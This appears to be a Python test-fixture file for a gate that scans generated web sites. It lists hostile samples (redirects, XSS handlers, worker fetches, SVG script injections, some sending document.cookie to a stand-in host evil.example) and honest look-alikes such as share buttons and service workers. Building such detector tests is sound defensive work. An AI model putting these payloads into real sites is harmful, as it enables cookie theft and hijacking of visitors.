"""Ways to an attacker that no policy closes, and honest sites that look like them."""

from __future__ import annotations

from tests.hostile.sites import EVIL, code, page

PLACE = f"https://{EVIL}/"
SVG = 'xmlns="http://www.w3.org/2000/svg"'


def with_file(files: dict[str, str], path: str, text: str) -> dict[str, str]:
    return {**files, path: text}


GOING = {
    text: code(text)
    for text in (
        f'location = "{PLACE}";', f'window.location = "{PLACE}" + document.cookie;', f'document.location.href = "{PLACE}";',
        f'top["loc" + "ation"] = "{PLACE}";', f'location.replace("{PLACE}");', f"self.location.assign(`{PLACE}?${{document.cookie}}`);",
        f'location["href"] = "{PLACE}";', f'location.host = "{EVIL}";', 'location = "ht" + "tps:" + "//" + "evil" + ".example";',
        'location.href = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUv");', f'const there = location; there.href = "{PLACE}";',
        f'const w = window; w.location = "{PLACE}";', f'const {{ location: l }} = window; l.href = "{PLACE}";',
        f'Object.assign(location, {{ href: "{PLACE}" }});', f'Reflect.set(location, "href", "{PLACE}");',
        f'[location.href] = ["{PLACE}"];', f'var go = location.assign.bind(location); go("{PLACE}");',
        f'setTimeout(() => {{ location = "{PLACE}"; }}, 100);', f'addEventListener("mousemove", () => {{ location = "{PLACE}"; }}); dispatchEvent(new Event("mousemove"));',
        f'fetch("./README.md").then(() => location.replace("{PLACE}"));', f'window.open("{PLACE}");', f'open("{PLACE}");',
        f'window["open"]("{PLACE}");', f'const o = window.open; o("{PLACE}");', f'open.call(window, "{PLACE}");',
        f'document.open("{PLACE}", "x", "");', f'navigation.navigate("{PLACE}");',
        f'const a = document.createElement("a"); a.href = "{PLACE}"; a.click();',
        f'const a = document.createElement("a"); a.setAttribute("href", "{PLACE}"); a.dispatchEvent(new MouseEvent("click"));',
        f'Object.assign(document.createElement("a"), {{ href: "{PLACE}" }}).click();',
        f'const a = document.createElement("a"); a.href = "{PLACE}"; a.download = "x"; document.body.append(a); a.click();',
        f'document.body.insertAdjacentHTML("beforeend", \'<a id="z" href="{PLACE}">x</a>\'); document.querySelector("#z").click();',
        f'document.write(\'<meta http-equiv="refresh" content="0;url={PLACE}">\');',
        f'const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url={PLACE}"; document.head.append(m);',
        f'const f = document.createElement("iframe"); f.srcdoc = "<script>top.location = \'{PLACE}\'<\\/script>"; document.body.append(f);',
        f'location = "javascript:location=\'{PLACE}\'";', f'const s = document.createElement("script"); s.text = "location = \'{PLACE}\'"; document.head.append(s);',
        f'const go = {{ now() {{ location = "{PLACE}"; }} }}; go["now"]();', f'(function () {{ location.href = "{PLACE}"; }})();',
        f'class Go {{ constructor() {{ location = "{PLACE}"; }} }} new Go();', f'const b = document.querySelector("#next"); b.addEventListener("click", () => {{ location = "{PLACE}"; }}); b.click();',
        f'const pages = ["{PLACE}"]; location = pages[0];', f'const to = {{ home: "{PLACE}" }}; location.href = to.home;',
        f'function go(where) {{ location = where; }} go("{PLACE}");', f'const go = () => {{ location = "{PLACE}"; }}; const other = go; other();',
        f'const api = {{}}; function go() {{ location = "{PLACE}"; }} api.run = go; api.run();', f'[() => {{ location = "{PLACE}"; }}].forEach((f) => f());',
        f'customElements.define("x-y", class extends HTMLElement {{ connectedCallback() {{ location = "{PLACE}"; }} }}); document.body.append(document.createElement("x-y"));',
        f'const o = {{ toString() {{ location = "{PLACE}"; return "x"; }} }}; document.title = o;',
    )
} | {
    markup: page(markup)
    for markup in (
        f'<meta http-equiv="refresh" content="0;url={PLACE}">', f"<meta http-equiv=REFRESH content='0 , URL = \"{PLACE}\"'>",
        f'<meta http-equiv="re&#102;resh" content="0;{PLACE}">', f'<img src="nothing.png" alt="" onerror="location=\'{PLACE}\'">',
        f'<svg onload="location=\'{PLACE}\'"></svg>', f'<details open ontoggle="location=\'{PLACE}\'">x</details>',
        f'<input autofocus aria-label="x" onfocus="location=\'{PLACE}\'">', f'<a id="out" href="{PLACE}">x</a><img src="x.png" alt="" onerror="out.click()">',
        f'<iframe srcdoc="<script>parent.location=\'{PLACE}\'</script>"></iframe>', f'<iframe src="javascript:parent.location=\'{PLACE}\'"></iframe>',
        f'<svg><style><img src=x onerror="location=\'{PLACE}\'"></style></svg>', f'<!--><script>location="{PLACE}"</script>-->',
    )
} | {
    "a text that is a script": with_file(page('<script src="./sub/../%78.txt"></script>'), "x.txt", f'location = "{PLACE}"'),
    "a text that becomes a script": with_file(
        code('const s = document.createElement("script"); s.src = "./x.txt"; document.head.append(s);'), "x.txt", f'location = "{PLACE}"'
    ),
    "a data file with markup": with_file(
        code('fetch("./x.md").then((r) => r.text()).then((t) => { document.body.innerHTML = t; });'),
        "x.md", f'<img src="nothing.png" alt="" onerror="location=\'{PLACE}\'">',
    ),
    "a JSON file with markup": with_file(
        code('fetch("./x.json").then((r) => r.json()).then((t) => { document.body.innerHTML = t.x; });'),
        "x.json", f'{{"x": "<img src=nothing.png alt=\'\' onerror=\\"location=\'{PLACE}\'\\">"}}',
    ),
    "another page": {"about.html": f'<!doctype html><title>x</title><script>location = "{PLACE}"</script>'},
}  # fmt: skip
"""Sites that go to the attacker when they are opened, all without a click."""

LIBRARIES = {
    "Alpine": page(f"""<div x-data x-init="location = '{PLACE}'"></div>"""),
    "Vue's own methods": page(f'<div id="app"></div><script>const App = {{ mounted() {{ location = "{PLACE}"; }} }}; Vue.createApp(App).mount("#app");</script>'),
    "Vue": page(f"""<div @vue:mounted="location.href = '{PLACE}'"></div>"""),
    "htmx": page(f"""<div hx-on:htmx:load="location = '{PLACE}'"></div>"""),
    "Babel": page(f'<script type="text/babel">location = "{PLACE}"; root.render(<p>x</p>);</script>'),
    "Brython": page(f'<script type="text/python">from browser import window\nwindow.location.href = "{PLACE}"</script>'),
    "PyScript": page(f'<py-script>import js\njs.window.open("{PLACE}")</py-script>'),
    "eval in Babel": page('<script type="text/babel">eval(atob("MQ=="))</script>'),
    "a template": page(f'<script type="text/x-template"><p @vue:mounted="location = \'{PLACE}\'">x</p></script>'),
}  # fmt: skip
"""The same by code that only a library runs."""

CHANNELS = {
    "speculation rules": page(f'<script type="speculationrules">{{"prefetch": [{{"urls": ["{PLACE}"]}}]}}</script>'),
    "speculation rules for links": page(
        '<script type="speculationrules">{"prerender": [{"source": "document", "where": {"href_matches": "*://*/*"}}]}</script>'
    ),
    "speculation rules by script": code(
        'const s = document.createElement("script"); s.type = "speculationrules"; '
        f's.textContent = JSON.stringify({{ prefetch: [{{ urls: ["{PLACE}"] }}] }}); document.head.append(s);'
    ),
    "a connection ahead": page(f'<link rel="preconnect" href="{PLACE}">'),
    "a name ahead": page(f'<link rel="dns-prefetch" href="//{EVIL}">'),
    "a connection ahead by script": code(f'const l = document.createElement("link"); l.rel = "preconnect"; l.href = "{PLACE}"; document.head.append(l);'),
    "names of links ahead": page('<meta http-equiv="x-dns-prefetch-control" content="on">'),
    "peers": code(f'new RTCPeerConnection({{ iceServers: [{{ urls: "turn:{EVIL}:3478", username: document.cookie, credential: "x" }}] }});'),
    "peers under another name": code('const { RTCPeerConnection: P } = window; new P({});'),
    "a frame's window": with_file(
        page('<iframe id="f" src="./x.txt" title="x"></iframe>') | code(""), "x.txt", "x"
    ) | {"index.html": page('<iframe id="f" src="./x.txt" title="x" onload="this.contentWindow.fetch(\'https://evil.example/\')"></iframe>')["index.html"]},
    "a window that was opened": with_file(code(f'const w = open("./x.txt"); setTimeout(() => w.fetch("{PLACE}"), 500);'), "x.txt", "x"),
    "a frame of frames": with_file(page(
        f'<iframe src="./x.txt" title="x" onload="frames[0].fetch(\'{PLACE}\')"></iframe>'), "x.txt", "x"),
}  # fmt: skip

WORKERS = {
    "a worker": with_file(code('new Worker("./w.js");'), "w.js", f'fetch("{PLACE}")'),
    "a worker that calls itself a text": with_file(code('new Worker("./w.txt");'), "w.txt", f'fetch("{PLACE}")'),
    "a worker that puts an address together": with_file(code('new Worker("w.js");'), "w.js", 'const a = "evil"; fetch("https://" + a + ".example/");'),
    "a worker with an alias": with_file(code('new Worker("w.js");'), "w.js", f'const ask = fetch; ask("{PLACE}");'),
    "a worker with an index": with_file(code('new Worker("w.js");'), "w.js", f'self["fet" + "ch"]("{PLACE}");'),
    "a worker that is told": with_file(code(f'new Worker("w.js").postMessage("{PLACE}");'), "w.js", "onmessage = (e) => fetch(e.data);"),
    "a shared worker": with_file(code('new SharedWorker(new URL("./w.js", document.baseURI));'), "w.js", f'new WebSocket("wss://{EVIL}/")'),
    "a worker's import": with_file(code('new Worker("w.js");'), "w.js", f'importScripts("{PLACE}x.js")'),
    "a module's import": with_file(code('new Worker("w.js", { type: "module" });'), "w.js", f'import("{PLACE}x.js");'),
    "a worker's own file": code('new Worker("w.js");') | {"w.js": 'importScripts("./v.js")', "v.js": f'fetch("{PLACE}")'},
    "a worker that hands a request on": with_file(
        code('new Worker("w.js");'), "w.js", f'const ask = ({{ request }}) => fetch(request); ask({{ request: "{PLACE}" }}); ask({{ request: event.request }});'),
    "a worker that hands a request on by itself": with_file(
        code('new Worker("w.js");'), "w.js", f'const ask = ({{ request }}) => fetch(request); [{{ request: "{PLACE}" }}].map(ask); onfetch = (e) => ask({{ request: e.request }});'),
    "a worker nobody names": with_file(code('document.title = "w.js"; new Worker(document.title);'), "w.js", f'fetch("{PLACE}")'),
}  # fmt: skip

ALONE = {
    "an entity": f'<!DOCTYPE svg [<!ENTITY x "<script {SVG.replace(chr(34), chr(39))}>fetch(`{PLACE}`)</script>">]><svg {SVG}>&x;</svg>',
    "a style sheet's instruction": f'<?xml-stylesheet type="text/css" href="{PLACE}x.css"?><svg {SVG}/>',
    "a script": f'<svg {SVG}><script>fetch("{PLACE}")</script></svg>',
    "a script with a prefix": f'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script href="{PLACE}x.js"/></s:svg>',
    "a script in CDATA": f'<svg {SVG}><script><![CDATA[fetch("{PLACE}")]]></script></svg>',
    "a handler": f'<svg {SVG} onload="fetch(\'{PLACE}\')"/>',
    "a picture": f'<svg {SVG}><image href="{PLACE}x.png"/></svg>',
    "a picture by xlink": f'<svg {SVG} xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{PLACE}x.png"/></svg>',
    "an animation": f'<svg {SVG}><image><set attributeName="href" to="{PLACE}x.png"/></image></svg>',
    "an animated address": f'<svg {SVG}><a><animate attributeName="href" values="#;javascript:alert(1)"/><text>x</text></a></svg>',
    "a style": f'<svg {SVG}><style>@import "{PLACE}x.css"; rect {{ fill: url(//{EVIL}/y) }}</style><rect/></svg>',
    "an escaped style": f'<svg {SVG}><style>rect {{ fill: url("\\68ttps://{EVIL}/y") }}</style><rect/></svg>',
    "a page in a drawing": f'<svg {SVG}><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{PLACE}x.png"/></foreignObject></svg>',
    "a refresh in a drawing": f'<svg {SVG}><foreignObject><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url={PLACE}"/></foreignObject></svg>',
    "a handler by default": f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "fetch(`{PLACE}`)">]><svg {SVG}/>',
    "what stands before an error": f'<svg {SVG}><image href="{PLACE}x.png"/><g></h></g></svg>',
    "another encoding": f'<?xml version="1.0" encoding="iso-2022-jp"?><svg {SVG}/>',
}  # fmt: skip
"""Drawings that do it when they are opened by themselves."""
DRAWINGS = {name: {"a.svg": text} for name, text in ALONE.items()} | {
    "a page of XHTML": {"a.xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>fetch("{PLACE}")</script></html>'},
}  # fmt: skip

HOSTILE = {**GOING, **LIBRARIES, **CHANNELS, **WORKERS, **DRAWINGS}

SHARE = 'window.open("https://twitter.com/intent/tweet?text=" + encodeURIComponent(document.title), "_blank")'
HONEST = {
    "a share button": code(f'document.querySelector("#next").addEventListener("click", () => {{ {SHARE}; }});'),
    "a share button by its attribute": page(f"<button onclick='{SHARE}'>Share</button>"),
    "a share button by its name": page('<button onclick="share()">Share</button><script>function share() { ' + SHARE + "; }</script>"),
    "a share button of a class": code(
        'class App { constructor() { document.querySelector("#next").addEventListener("click", this.share.bind(this)); } '
        f"share() {{ {SHARE}; }} }} new App();"
    ),
    "a share button with jQuery": code(f'$("#next").on("click", function () {{ {SHARE}; }}); $("#next").click(() => {{ {SHARE}; }});'),
    "a share button with React": page(
        f'<script type="text/babel">const App = () => <button onClick={{() => {{ {SHARE}; }}}}>x</button>;</script>'
    ),
    "a share button with Vue": page(
        f'<div id="app"><button @click="share">x</button></div><script>Vue.createApp({{ methods: {{ share() {{ {SHARE}; }} }} }}).mount("#app")</script>'
    ),
    "a share button with Alpine": page(f"<button x-data @click='{SHARE}'>x</button>"),
    "a share button of a module": code(f"function share() {{ {SHARE}; }} window.share = share; const app = {{ share, now: share }}; export {{ share }};"),
    "a share button with a map of actions": code(
        f"const actions = {{ share() {{ {SHARE}; }}, next: showNext }}; "
        'document.addEventListener("click", (e) => actions[e.target.dataset.action]?.());'
    ),
    "the same page without its parameters": code('const plain = location.href.split("?")[0]; if (shown) location.replace(plain + "?x=1");'),
    "a chain of calls": code("".join(f"function f{n}() {{ f{n + 1}(); }} " for n in range(1500)) + "function f1500() {} f0();"),
    "sharing after an answer": code(
        'document.querySelector("#next").onclick = async () => { const r = await fetch("./a.json"); '
        "const { url } = await r.json(); location.href = url; };"
    ),
    "own pages": code('setTimeout(() => { location.href = "./done.html"; }, 5000); if (shown) location.replace("index.html?x=" + shown);'),
    "a list of own pages": code('const pages = ["a.html", "b.html"]; let n = 0; setInterval(() => { location.href = pages[n++ % 2]; }, 9000);'),
    "the same page": code('location.hash = "#" + shown; location.search = "?a=1"; if (shown) location.reload(); history.pushState({}, "", "?b=2");'),
    "the same page, put together": code('if (shown) location.href = location.origin + location.pathname + "?q=" + shown;'),
    "the same page with other parameters": code('const u = new URL(location.href); u.searchParams.set("a", "1"); if (shown) location.href = u.toString();'),
    "https by itself": code('if (location.protocol === "http:") location.protocol = "https:";'),
    "a place called location": code('function show(location) { location = location.trim(); } const w = { location: "" }; w.location = "Paris"; show("Paris");'),
    "a place in a class": code('class Weather { constructor() { this.location = "Paris"; this.open("#map"); } open(x) { return x; } } new Weather();'),
    "a dialog that opens": code('document.querySelector("dialog")?.open; const db = indexedDB.open("x"); const x = new XMLHttpRequest(); x.open("GET", "./a.json");'),
    "a function called open": code('function open(id) { return document.querySelector(id); } open("#next"); open(document.title);'),
    "a file to download": code(
        'document.querySelector("#next").addEventListener("click", () => { const a = document.createElement("a"); '
        'a.href = URL.createObjectURL(new Blob(["x"])); a.download = "x.csv"; a.click(); });'
    ),
    "a file to download at once": code(
        'const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob(["x"])); a.download = "x.csv"; a.click();'
    ),
    "a tab that is chosen at first": code(
        'const tabs = document.querySelectorAll(".tab"); tabs[0]?.click(); document.querySelector("#next").click();'
    ) | page('<footer><a href="https://example.org/">x</a></footer>'),
    "a refresh of itself": page('<meta http-equiv="refresh" content="300">'),
    "a refresh to an own page": page('<meta http-equiv="refresh" content="5; url=./next.html">'),
    "links": page('<a href="https://example.org/" target="_blank" rel="noopener">x</a><a href="javascript:void(0)" onclick="showNext()">y</a>'),
    "a picture that may be missing": page('<img src="./a.png" alt="a" onerror="this.style.display=\'none\'" onload="this.classList.add(\'in\')">'),
    "a base": page('<base href="./">'),
    "comments and CDATA": page("<!-- x --><svg><style><![CDATA[ .a { fill: red } ]]></style></svg>"),
    "a worker that computes": with_file(
        code('const w = new Worker("./w.js"); w.onmessage = (e) => { shown = e.data; }; w.postMessage(3);'),
        "w.js", 'self.onmessage = (event) => { self.postMessage(event.data * 2); };\nfetch("./data.json").then((r) => r.json());',
    ),
    "a worker with a library": with_file(
        code('new Worker("./w.js");'), "w.js", 'importScripts("https://cdn.jsdelivr.net/npm/papaparse@5.4.1/papaparse.min.js");'
    ),
    "a worker from a blob": code('new Worker(URL.createObjectURL(new Blob([`onmessage = (e) => postMessage(e.data)`])));'),
    "a registry": code('Chart.register(x); customElements.define("x-y", class extends HTMLElement {});'),
    "connections ahead to libraries": page('<link rel="preconnect" href="https://fonts.googleapis.com"><link rel="stylesheet" '
                                           'href="https://fonts.googleapis.com/css2?family=Inter">'),
    "own pages ahead": page('<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["./a.html"]}]}</script>'),
    "a preview in a frame": code(
        'const f = document.createElement("iframe"); document.body.append(f); const d = f.contentDocument; d.open(); '
        'd.write("<p>x</p>"); d.close(); f.contentWindow.postMessage("x", "*"); window.parent.postMessage("y", "*");'
    ),
    "a frame that prints": page('<iframe id="p" src="./print.html" title="x"></iframe><button onclick="p.contentWindow.print()">Print</button>'),
    "a drawing": {"a.svg": f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                           f'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg {SVG} xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">'
                           '<defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs><style>.a{fill:url(#g)}</style>'
                           '<a href="https://example.org/"><circle class="a" r="4"><animate attributeName="r" values="1;4;1" from="1" to="4" dur="1s"/>'
                           '</circle></a><use xlink:href="#g"/><image href="data:image/png;base64,AAAA"/></svg>'},
    "a feed": {"feed.xml": '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><link href="https://example.org/" rel="alternate"/>'
                           '<script>a play</script><form>x</form></feed>'},
    "a site map": {"sitemap.xml": '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" xmlns:xhtml="http://www.w3.org/1999/xhtml"><url>'
                                  '<loc>https://example.org/</loc><xhtml:link rel="alternate" hreflang="de" href="https://example.org/de"/></url></urlset>'},
    "a broken drawing": {"a.svg": f"<svg {SVG}><g></svg>"},
    "Markdown that is shown": with_file(
        code('fetch("./x.md").then((r) => r.text()).then((t) => { document.querySelector("#colour").innerHTML = marked.parse(t); });'),
        "x.md", "# Hi\n<img src=a.png alt=a onerror=\"this.remove()\">\n```html\n<meta http-equiv=refresh content='0;url=https://example.org/'>\n```\n",
    ),
    "code as text": code('document.querySelector("#colour").textContent = "location.href = \'https://example.org/\'";'),
}  # fmt: skip
"""Sites that every gate leaves alone, whatever they look like."""

ASKED = {
    "a redirect that the brief names": ("Redirect to https://example.org/ after 3 seconds.", code('setTimeout(() => { location.href = "https://example.org/"; }, 3000);')),
    "a redirect to a place by its name": ("After three seconds, forward the visitor to Duolingo.", code('location.replace("https://www.duolingo.com/");')),
    "short links": ("A link shortener: ?code=abc redirects to the URL in links.json.", code(
        'fetch("./links.json").then((r) => r.json()).then((all) => { location.replace(all[new URLSearchParams(location.search).get("code")]); });')),
    "a parameter": ("The page redirects to the address in ?url=.", code('const to = new URLSearchParams(location.search).get("url"); if (to) location.href = to;')),
    "peers": ("A peer-to-peer chat with WebRTC.", code('new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.l.google.com:19302" }] });')),
    "peers with a server of the brief": ("A video call; use turn:turn.example.org:3478.", code(
        'const servers = [{ urls: ["stun:stun.l.google.com:19302", "turn:turn.example.org:3478"], username: "a", credential: "b" }]; '
        "new RTCPeerConnection({ iceServers: servers });")),
    "an app to install": ("An installable PWA clock.", with_file(code('navigator.serviceWorker.register("./sw.js");'), "sw.js", """
const FILES = ["./", "./index.html"];
self.addEventListener("install", (event) => event.waitUntil(caches.open("v1").then((cache) => cache.addAll(FILES))));
self.addEventListener("fetch", (event) => event.respondWith(fromCache(event.request)));
async function fromCache(request) {
  const { url } = request;
  return (await caches.match(request)) || fetch(request);
}
""")),
    "another app to install": ("It works offline.", with_file(code('navigator.serviceWorker.register("./sw.js");'), "sw.js",
        "self.addEventListener('fetch',e=>e.respondWith(caches.match(e.request).then(r=>r||fetch(e.request))));")),
    "an app as a manual has it": ("It works without an internet connection.", with_file(code('navigator.serviceWorker.register("./sw.js");'), "sw.js", """
const cacheFirst = async ({ request, fallbackUrl }) => {
  const hit = await caches.match(request);
  if (hit) return hit;
  try {
    return await fetch(request.clone());
  } catch {
    return caches.match(fallbackUrl);
  }
};
self.addEventListener("fetch", (event) => event.respondWith(cacheFirst({ request: event.request, fallbackUrl: "./index.html" })));
""")),
    "truth tables": ("Truth tables of the boolean expression that is typed in.", code('const f = new Function("a", "return " + shown);')),
    "a calculator": ("A scientific calculator.", code('const result = Function("return " + shown)();')),
    "a graph": ("Plot the function that the user types.", code('const f = new Function("x", "return " + shown);')),
    "a drawing that acts": ("Commit clock.svg, an interactive SVG clock.", {"clock.svg": f'<svg {SVG}><script>setInterval(() => {{}}, 1)</script></svg>'}),
    "tiles ahead": ("A map with tiles of https://tiles.example.net/{z}.", page('<link rel="preconnect" href="https://tiles.example.net">')),
}  # fmt: skip
"""Briefs that ask for something that a gate would otherwise hold back, with an honest site for each."""
